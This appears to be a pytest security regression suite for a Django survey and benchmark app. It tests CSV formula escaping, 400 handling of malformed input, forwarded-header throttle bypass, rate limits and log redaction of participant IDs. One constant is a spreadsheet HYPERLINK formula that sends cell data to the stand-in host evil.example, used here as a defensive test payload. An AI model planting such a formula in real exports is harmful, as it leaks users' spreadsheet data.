"""Security issue 11, finding 6 ("lows"): CSV formula injection, four 500s, webhook signature order,
X-Forwarded-For and the API throttle, self-test write limits, encoded PROLIFIC_PID in logs."""

import csv
import io

import pandas as pd
import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from benchmark.models import Answer
from config.logging import redact
from config.spreadsheet import spreadsheet_cell, spreadsheet_frame
from psychometrics.services import analysis_create, analysis_run
from results.models import SelfTestResponse
from surveys import plan as plans
from surveys.models import Rating
from tests.factories import ItemFactory, ItemGroupFactory, ParticipantFactory, StudyFactory
from tests.psychometrics.conftest import completed_study  # noqa: F401
from tests.results.builders import completed_run, imported_bank
from tests.surveys.helpers import answers_for, arrive, current_page

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def _logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


# --- a. formula injection in CSV downloads ---------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "-", "-inf", "=-0.25"])
def test_a_text_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(text):
    assert spreadsheet_cell(text) == "'" + text
    assert spreadsheet_frame(pd.DataFrame({"cell": [text]}))["cell"].tolist() == ["'" + text]


@pytest.mark.parametrize("value", [-0.25, "-0.25", "+3", "-1e-05", "-7", ".5", "Benevolence", "a=b", "", None, 3])
def test_numbers_and_harmless_text_are_left_as_they_are(value):
    assert spreadsheet_cell(value) == value


def test_a_frame_keeps_its_numeric_and_datetime_columns_and_is_not_modified_in_place():
    frame = pd.DataFrame({"text": ["=1", "ok", None], "rho": [-0.25, 0.5, float("nan")],
                          "at": pd.to_datetime(["2025-01-01"] * 3, utc=True)})
    safe = spreadsheet_frame(frame)
    assert safe["text"].tolist()[:2] == ["'=1", "ok"] and frame["text"].tolist()[0] == "=1"
    assert safe["rho"].dtype == frame["rho"].dtype and safe["at"].dtype == frame["at"].dtype
    assert safe.to_csv(index=False).splitlines()[1].startswith("'=1,-0.25,")


def test_the_studys_ratings_csv_download_escapes_formulas(django_user_model):
    study = StudyFactory(slug="injected")
    item = ItemFactory(group=ItemGroupFactory(study=study, name="@group"), item_id=FORMULA, source="+source")
    Rating.objects.create(participant=ParticipantFactory(study=study), item=item, rating=3, answered_at=timezone.now())
    researcher = django_user_model.objects.create_user("csv-researcher", password="pw")
    study.researchers.add(researcher)
    response = _logged_in(researcher).get("/studies/injected/export/ratings.csv")
    assert response.status_code == 200
    [row] = _csv_rows(b"".join(response.streaming_content))
    assert (row["item_id"], row["group"], row["source"], row["rating"]) == ("'" + FORMULA, "'@group", "'+source", "3")


def test_the_analysis_items_csv_escapes_formulas_but_keeps_negative_correlations_numbers(completed_study):  # noqa: F811
    completed_study.items.filter(item_id="B1").update(source=FORMULA)
    analysis_run(analysis_id=analysis_create(study=completed_study, enqueue=False).pk)
    researcher = get_user_model().objects.create_user("csv-analyst", password="pw")
    completed_study.researchers.add(researcher)
    response = _logged_in(researcher).get(reverse("psychometrics:analysis-items", args=["values", "csv"]))
    rows = _csv_rows(b"".join(response.streaming_content))
    assert {row["source"] for row in rows if row["item_id"] == "B1"} == {"'" + FORMULA}
    negative = [row["rho"] for row in rows if row["rho"].startswith("-")]
    assert negative and all(float(rho) < 0 for rho in negative)  # still numbers, no quote


def test_the_results_sites_csv_of_a_runs_items_escapes_an_llm_answer(tmp_path):
    run = completed_run(imported_bank(tmp_path), "model-a")
    Answer.objects.filter(run=run).update(raw_text=FORMULA)
    response = Client().get(f"/results/runs/{run.pk}/items/?family=pvq&dimension=Benevolence&format=csv")
    rows = _csv_rows(response.content)
    assert rows and {row["answer_1"] for row in rows} == {"'" + FORMULA}
    assert all(float(row["rho"]) >= 0.3 for row in rows)


# --- b. four 500s become clear 4xx answers (debug off, as in production) ----------------------------


@pytest.fixture
def production_client(settings):
    settings.DEBUG = False
    return Client(raise_request_exception=False)


def test_a_weight_without_a_dimension_name_is_a_400_that_says_how_to_write_it(production_client):
    response = production_client.get("/api/v1/leaderboard/?weights=:")
    assert response.status_code == 400
    assert "write Dimension:weight" in response.json()["detail"]


def test_a_5000_digit_rating_on_a_participant_page_is_a_400_naming_the_row(production_client):
    group = ItemGroupFactory(study=StudyFactory(slug="digits"))
    ItemFactory.create_batch(3, group=group)
    url, participant = arrive(production_client, "digits")
    while current_page(participant).kind != plans.ITEMS:
        assert production_client.post(url, answers_for(participant)).status_code == 303
    data = answers_for(participant)
    field = next(name for name in data if name.startswith("item-"))
    data[field] = "9" * 5000
    response = production_client.post(url, data)
    assert response.status_code == 400
    assert "is not an answer on the scale for response" in response.content.decode()
    assert not Rating.objects.filter(participant=participant).exists()


@pytest.mark.parametrize("value", ["²", "٣", "9" * 5000, "-1"])
def test_a_self_test_answer_that_is_not_an_ascii_code_is_a_400_asking_for_that_answer(production_client, value):
    data = {f"q{n}": "3" for n in range(1, 22)} | {"q1": value}
    response = production_client.post("/results/self-test/", data)
    assert response.status_code == 400
    assert "missing: 1)" in response.content.decode()
    assert not SelfTestResponse.objects.exists()


@pytest.mark.parametrize("value", ["²", "9" * 5000])
def test_ids_in_the_query_string_written_oddly_are_answered_without_a_500(production_client, tmp_path, value):
    run = completed_run(imported_bank(tmp_path, n_items=12), "model-a")
    for url in (f"/api/v1/leaderboard/?itembank={value}", f"/results/?itembank={value}", f"/api/v1/items/?page={value}",
                f"/results/models/{run.llm_id}/?run={value}", f"/results/compare/?models={value}"):
        assert production_client.get(url).status_code < 500, url
    assert production_client.get(f"/api/v1/items/?page={value}").status_code == 400
    assert production_client.get(f"/results/?itembank={value}").status_code == 400


# --- d. X-Forwarded-For cannot buy a fresh API allowance --------------------------------------------


@pytest.fixture
def anon_rate_3(monkeypatch):
    from django.core.cache import cache

    from config.throttling import ClientAddressAnonThrottle

    monkeypatch.setattr(ClientAddressAnonThrottle, "THROTTLE_RATES", {"anon": "3/minute"})
    cache.clear()
    yield
    cache.clear()


def test_behind_one_proxy_prepended_forwarded_addresses_share_the_real_clients_api_allowance(settings, anon_rate_3):
    settings.TRUSTED_PROXY_HOPS = 1
    client = Client()
    statuses = [client.get("/api/v1/itembanks/", HTTP_X_FORWARDED_FOR=f"10.9.8.{n}, 203.0.113.7", REMOTE_ADDR="10.0.0.2").status_code
                for n in range(4)]
    assert statuses == [200, 200, 200, 429]
    other = client.get("/api/v1/itembanks/", HTTP_X_FORWARDED_FOR="10.9.8.1, 198.51.100.4", REMOTE_ADDR="10.0.0.2")
    assert other.status_code == 200  # another real client behind the same proxy has its own allowance


def test_without_a_trusted_proxy_the_forwarded_header_is_ignored_by_the_api_throttle(settings, anon_rate_3):
    settings.TRUSTED_PROXY_HOPS = 0
    client = Client()
    statuses = [client.get("/api/v1/itembanks/", HTTP_X_FORWARDED_FOR=f"10.9.8.{n}", REMOTE_ADDR="203.0.113.9").status_code
                for n in range(4)]
    assert statuses == [200, 200, 200, 429]


# --- e. anonymous self-test writes are limited per client address -----------------------------------


def _self_test(client, *, store: bool, addr: str):
    data = {f"q{n}": str(1 + n % 6) for n in range(1, 22)} | ({"store": "yes"} if store else {})
    return client.post("/results/self-test/", data, REMOTE_ADDR=addr)


def test_storing_self_tests_beyond_the_limit_from_one_address_gets_429_and_stores_nothing(settings):
    from django.core.cache import cache

    cache.clear()
    settings.SELF_TEST_STORE_RATE_LIMIT = "3/3600"
    client = Client()
    assert [_self_test(client, store=True, addr="10.2.2.2").status_code for _ in range(3)] == [200, 200, 200]
    refused = _self_test(client, store=True, addr="10.2.2.2")
    assert refused.status_code == 429 and 1 <= int(refused["Retry-After"]) <= 3600
    assert "Your answers were not stored" in refused.content.decode()
    assert SelfTestResponse.objects.count() == 3
    assert _self_test(client, store=False, addr="10.2.2.2").status_code == 200  # taking the test stays open
    assert _self_test(client, store=True, addr="10.3.3.3").status_code == 200  # another address has its own count
    assert SelfTestResponse.objects.count() == 4
    cache.clear()


def test_a_bad_self_test_limit_setting_fails_at_start_up(settings):
    from django.core.exceptions import ImproperlyConfigured

    from config.middleware import EntryRateLimitMiddleware

    settings.SELF_TEST_STORE_RATE_LIMIT = "lots"
    with pytest.raises(ImproperlyConfigured, match="SELF_TEST_STORE_RATE_LIMIT"):
        EntryRateLimitMiddleware(lambda request: None)


# --- f. percent-encoded PROLIFIC_PID is redacted too ------------------------------------------------

PID = "5f0c2d3e4a1b2c3d4e5f6a7b"


@pytest.mark.parametrize("written", [
    f"PROLIFIC_PID={PID}", f"PROLIFIC%5FPID={PID}", f"prolific%5fpid={PID}", f"Prolific%255FPid={PID}",
    f"%50ROLIFIC_PID={PID}", f"PROLIFIC_PID%3D{PID}", f"PROLIFIC%255FPID%253D{PID}", f"PROLIFIC_PID=5f0c%32d3e{PID}",
])
def test_redact_hides_the_prolific_id_however_its_name_is_encoded(written):
    line = f"GET /s/demo/?{written}&STUDY_ID=abc HTTP/1.1"
    cleaned = redact(line)
    assert PID not in cleaned and "5f0c" not in cleaned
    assert cleaned.endswith("…&STUDY_ID=abc HTTP/1.1")


def test_redact_stops_at_an_encoded_ampersand_and_leaves_other_parameters_alone():
    line = "GET /accounts/login/?next=/s/demo/%3FPROLIFIC%5FPID%3D5f0c2d%26STUDY_ID%3Dabc HTTP/1.1"
    assert redact(line) == "GET /accounts/login/?next=/s/demo/%3FPROLIFIC%5FPID%3D…%26STUDY_ID%3Dabc HTTP/1.1"
    assert redact("GET /?PROLIFIC_PIDS=1&X_PROLIFIC=2") == "GET /?PROLIFIC_PIDS=1&X_PROLIFIC=2"


def test_runservers_request_line_with_an_encoded_prolific_id_is_logged_redacted():
    """The dev server's django.server record, through the handler the LOGGING setting configures."""
    import logging

    from django.core.servers.basehttp import WSGIRequestHandler

    from config.logging import RedactParticipantData

    handlers = [h for h in logging.getLogger().handlers if any(isinstance(f, RedactParticipantData) for f in h.filters)]
    assert handlers, "the root logger has no redacting handler"
    stream = io.StringIO()
    previous = handlers[0].setStream(stream)
    request_handler = WSGIRequestHandler.__new__(WSGIRequestHandler)
    request_handler.request = None
    try:
        request_handler.log_message('"%s" %s %s', f"GET /s/demo/?PROLIFIC%5FPID={PID}&STUDY_ID=abc HTTP/1.1", "303", "0")
    finally:
        handlers[0].setStream(previous)
    line = stream.getvalue()
    assert "django.server" in line and '"GET /s/demo/?PROLIFIC%5FPID=…&STUDY_ID=abc HTTP/1.1" 303 0' in line
    assert PID not in line


def test_a_prolific_id_in_any_log_line_reaches_the_log_as_a_keyed_hash():
    """The configured handlers' filter, and httpx's logger, pseudonymise bare Prolific ids too."""
    import logging

    from config.logging import RedactParticipantData
    from prolific.redaction import pseudonymise

    handlers = [h for h in logging.getLogger().handlers if any(isinstance(f, RedactParticipantData) for f in h.filters)]
    assert handlers and any(isinstance(f, RedactParticipantData) for f in logging.getLogger("httpx").filters)
    stream = io.StringIO()
    previous = handlers[0].setStream(stream)
    try:
        logging.getLogger("surveys.anything").warning("participant %s did something", PID)
        logging.getLogger("httpx").warning('HTTP Request: POST https://api.prolific.com/api/v1/submissions/%s/transition/ "%s"',
                                           PID, "HTTP/1.1 200 OK")
    finally:
        handlers[0].setStream(previous)
    written = stream.getvalue()
    assert PID not in written and f"participant {pseudonymise(PID)} did something" in written
    assert "/submissions/{submission_id}/transition/" in written


def test_without_django_settings_a_prolific_id_is_replaced_by_a_placeholder():
    """gunicorn's master process logs without settings (no key for the hash): ids still never reach the log."""
    import os
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if k != "DJANGO_SETTINGS_MODULE"}
    line = f"GET /api/v1/submissions/{PID}/transition/ for {PID}"
    printed = subprocess.run([sys.executable, "-c", f"from config.logging import redact; print(redact({line!r}))"],
                             capture_output=True, text=True, env=env, check=True).stdout
    assert printed.strip() == "GET /api/v1/submissions/{submission_id}/transition/ for {prolific_id}"
